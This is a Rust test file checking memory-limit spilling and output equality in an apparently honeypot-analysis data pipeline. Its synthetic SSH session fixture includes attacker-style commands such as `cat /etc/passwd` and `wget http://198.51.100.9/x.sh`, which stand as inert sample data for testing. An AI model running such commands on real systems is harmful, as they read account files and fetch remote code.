//! The `[engine]` memory limit (issue: bounded memory): the SQL stages spill
//! to disk under a small limit and give the same rows as without one; a
//! limit the data cannot fit is an error naming the limit.

use std::sync::Arc;

use datafusion::arrow::array::RecordBatch;
use datafusion::arrow::util::pretty::pretty_format_batches;
use datafusion::datasource::MemTable;
use datafusion::prelude::SessionContext;
use driftlake::engine::context::{
    new_context_with, run_sql_file, run_statement, skip_partial_aggregation, spilled,
    EngineOptions, TARGET_PARTITIONS,
};
use driftlake::engine::EngineError;
use driftlake::extract::attribution::AttributionThresholds;
use driftlake::model::schema::observations_schema;

use crate::synthetic::generate;

/// A context with `options` over `identities × per_identity` synthetic
/// observations, spread over the planning partitions as a scan would.
fn context(options: &EngineOptions, identities: usize, per_identity: usize) -> SessionContext {
    let ctx = new_context_with(&AttributionThresholds::default(), options);
    let mut parts: Vec<Vec<RecordBatch>> = vec![Vec::new(); TARGET_PARTITIONS];
    for (i, b) in generate(identities, per_identity).into_iter().enumerate() {
        parts[i % TARGET_PARTITIONS].push(b);
    }
    let table = MemTable::try_new(observations_schema(), parts).expect("observations table");
    ctx.register_table("observations", Arc::new(table))
        .expect("register observations");
    skip_partial_aggregation(&ctx);
    ctx
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("tokio runtime")
}

/// The rows of `batches` as text lines (order kept).
fn lines(batches: &[RecordBatch]) -> Vec<String> {
    pretty_format_batches(batches)
        .expect("printable")
        .to_string()
        .lines()
        .map(str::to_owned)
        .collect()
}

fn limited(mib: usize, dir: &std::path::Path) -> EngineOptions {
    EngineOptions {
        memory_limit: Some(mib << 20),
        spill_dir: Some(dir.to_path_buf()),
    }
}

#[test]
fn attribution_stages_spill_under_a_small_limit_and_give_the_unlimited_rows() {
    let rt = runtime();
    let dir = tempfile::tempdir().expect("tempdir");
    for name in ["attribution_state", "attribution_transitions"] {
        let free = context(&EngineOptions::default(), 400, 100);
        let want = rt
            .block_on(run_sql_file(&free, name, &Default::default()))
            .expect("unlimited");
        assert_eq!(spilled(&free), (0, 0), "{name}: no limit, no spill");
        let small = context(&limited(16, dir.path()), 400, 100);
        let got = rt
            .block_on(run_sql_file(&small, name, &Default::default()))
            .unwrap_or_else(|e| panic!("{name} under 16 MiB: {e:?}"));
        let (files, bytes) = spilled(&small);
        eprintln!("{name}: {files} spill files, {bytes} bytes");
        assert!(files > 0 && bytes > 0, "{name}: the limit made it spill");
        let want = lines(&want);
        assert!(want.len() > 1000, "{name}: {} rows", want.len());
        assert_eq!(lines(&got), want, "{name}: same rows, same order");
    }
    // Spill files are gone once the queries are.
    let left: Vec<String> = crate::idempotency::support::files(dir.path())
        .into_keys()
        .collect();
    assert!(left.is_empty(), "spill files left behind: {left:?}");
}

#[test]
fn a_query_that_cannot_spill_under_the_limit_is_an_error_naming_it() {
    // A hash join holds its build side in memory (DataFusion does not spill
    // it): 400,000 observations do not fit in 16 MiB.
    let rt = runtime();
    let dir = tempfile::tempdir().expect("tempdir");
    let ctx = context(&limited(16, dir.path()), 4000, 100);
    let join = "SELECT count(*) FROM observations a JOIN observations b \
                ON a.evidence_ref = b.evidence_ref AND a.primitive = b.primitive";
    let err = rt
        .block_on(run_statement(&ctx, join, &Default::default()))
        .expect_err("does not fit");
    let text = driftlake::error::chain_text(&err);
    assert!(
        matches!(err, EngineError::MemoryLimit { limit_mib: 16, .. }),
        "{text}"
    );
    assert!(text.contains("memory limit of 16 MiB"), "{text}");
    // Without the limit the same join runs.
    let free = context(&EngineOptions::default(), 4000, 100);
    let n = rt
        .block_on(run_statement(&free, join, &Default::default()))
        .expect("runs without a limit");
    assert_eq!(lines(&n)[3], "| 400000   |");
}

/// `n` short sessions from `n / 10` addresses (one recorder log naming
/// them), each typing one of a few commands at its own time, so identities
/// have series whose states and transitions vary. They start over about
/// four days and are split between two deckies' shards, with a broken line
/// every 500 sessions (dead letters); the second shard also has a gzipped
/// copy (a duplicate: the first URL wins).
fn many_sessions(root: &std::path::Path, n: usize) {
    use crate::idempotency::support::write;
    use std::io::Write;
    const CMDS: [(&str, &str); 4] = [
        ("id", "uid=0(root) gid=0(root)"),
        ("uname -a", "Linux srv 5.15.0 x86_64 GNU/Linux"),
        ("cat /etc/passwd", "root:x:0:0:root:/root:/bin/bash"),
        (
            "wget http://198.51.100.9/x.sh",
            "Connecting to 198.51.100.9:80... connected.",
        ),
    ];
    let mut shards = [String::new(), String::new()];
    let mut log = String::new();
    for i in 0..n {
        let sid = format!("m-{i:05}");
        let t0 = 1_777_780_000 + i * 37;
        let (cmd, out) = CMDS[(i * 7 / 3) % CMDS.len()];
        if i % 500 == 0 {
            shards[(i / 500) % 2].push_str("{\"sid\": truncated\n");
        }
        shards[i % 2].push_str(&format!(
            "{{\"sid\":\"{sid}\",\"hdr\":{{\"version\":2,\"width\":80,\"height\":24,\"timestamp\":{t0},\"env\":{{\"SHELL\":\"/bin/bash\",\"TERM\":\"xterm\"}}}}}}\n\
             {{\"sid\":\"{sid}\",\"t\":0.4{},\"ch\":\"i\",\"d\":\"{cmd}\\r\"}}\n\
             {{\"sid\":\"{sid}\",\"t\":0.9,\"ch\":\"o\",\"d\":\"{out}\\r\\n# \"}}\n",
            i % 10
        ));
        let at = chrono::DateTime::from_timestamp(t0 as i64 + 2, 0).expect("a time");
        log.push_str(&format!(
            "<134>1 {} edge-01 sessrec 4411 session_recorded [relay@55555 sid=\"{sid}\" service=\"ssh\" src_ip=\"198.51.100.{}\" duration_s=\"1.0\" bytes=\"100\" truncated=\"false\"] session recorded\n",
            at.format("%Y-%m-%dT%H:%M:%S%.6fZ"),
            i / 10 % 250
        ));
    }
    for (d, shard) in shards.iter().enumerate() {
        let path = format!("artifacts/edge-0{}/ssh/sessions-2026-05-03.jsonl", d + 1);
        write(root, &path, shard.as_bytes());
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(shards[1].as_bytes()).expect("gzip");
    write(
        root,
        "artifacts/edge-02/ssh/sessions-2026-05-03.jsonl.gz",
        &gz.finish().expect("gzip"),
    );
    write(root, "logs/sessrec-2026-05-03.log", log.as_bytes());
}

#[test]
fn a_job_under_a_small_memory_limit_spills_and_writes_the_same_lake() {
    use crate::idempotency::support::{plan, run, run_full, table_files, table_rows};
    use driftlake::source::InputKind;
    let tmp = tempfile::tempdir().expect("tempdir");
    let src = tmp.path().join("src");
    many_sessions(&src, 8000);
    let lake = |name: &str| tmp.path().join(name);
    let job = |l: &str| {
        let s = |d: &str| src.join(d).display().to_string();
        plan(
            &[
                (InputKind::Sessrec, &s("artifacts")),
                (InputKind::SessionLog, &s("logs")),
            ],
            lake(l).to_str().expect("utf-8 path"),
            true,
        )
    };
    // "free": a limit far above the data, so nothing spills and the spool
    // (half the limit) stays in memory.
    let mut free = job("free");
    free.engine = EngineOptions {
        memory_limit: Some(4 << 30),
        spill_dir: None,
    };
    let free = run(&free, 2);
    assert_eq!((free.spill_files, free.spilled_bytes), (0, 0));
    assert_eq!((free.spool_files, free.spooled_bytes), (0, 0));
    let mut small = job("small");
    let spill = tmp.path().join("spill");
    small.engine = limited(16, &spill);
    // Partitions streamed into files of 2,000 rows: several a day.
    small.max_rows_per_file = 2000;
    let got = run(&small, 2);
    eprintln!(
        "{} spill files, {} bytes; {} spool files, {} bytes",
        got.spill_files, got.spilled_bytes, got.spool_files, got.spooled_bytes
    );
    assert!(
        got.spill_files > 0,
        "the 16 MiB limit made the SQL stages spill"
    );
    assert!(
        got.spool_files > 0 && got.spooled_bytes > 0,
        "new session rows past the 8 MiB spool budget went to disk"
    );
    assert!(
        got.observations > 50_000,
        "{} observations",
        got.observations
    );
    assert_eq!(got.sessions, free.sessions);
    assert_eq!(got.sessions.duplicate, 4000, "the gzipped copy's sessions");
    assert_eq!(got.observations_by_family, free.observations_by_family);
    assert_eq!(got.dead_letters_by_reason, free.dead_letters_by_reason);
    assert_eq!(got.dead_letters, 16 + 8, "8 broken lines a shard, 3 shards");
    let left: Vec<_> = std::fs::read_dir(&spill).expect("spill dir").collect();
    assert!(
        left.is_empty(),
        "spool or spill files left behind: {left:?}"
    );
    for t in [
        "sessions",
        "observations",
        "dlq",
        "attribution_state",
        "drift_events",
    ] {
        let want = table_rows(&lake("free"), t, &["run_id"]);
        assert!(!want.is_empty(), "{t} has rows");
        assert_eq!(table_rows(&lake("small"), t, &["run_id"]), want, "{t}");
    }
    let files_of = |t: &str| {
        let prefix = format!("{t}/");
        table_files(&lake("small"))
            .into_keys()
            .filter(|k| k.starts_with(&prefix) && k.ends_with(".parquet"))
            .count()
    };
    let days = got.tables["observations"].partitions_written;
    assert!(
        files_of("observations") >= 50_000 / 2000 && days <= 5,
        "{} files for {days} observations partitions",
        files_of("observations")
    );
    // Reading everything again merges with the committed files a batch at
    // a time and finds every partition unchanged, file for file.
    let before = table_files(&lake("small"));
    let again = run_full(&small, 2);
    for t in ["sessions", "observations"] {
        let s = &again.tables[t];
        assert_eq!(s.partitions_written, 0, "{t}: {s:?}");
        assert!(s.partitions_unchanged > 0, "{t}: {s:?}");
    }
    assert_eq!(again.sessions.duplicate, 4000);
    assert_eq!(table_files(&lake("small")), before, "no file changed");
}
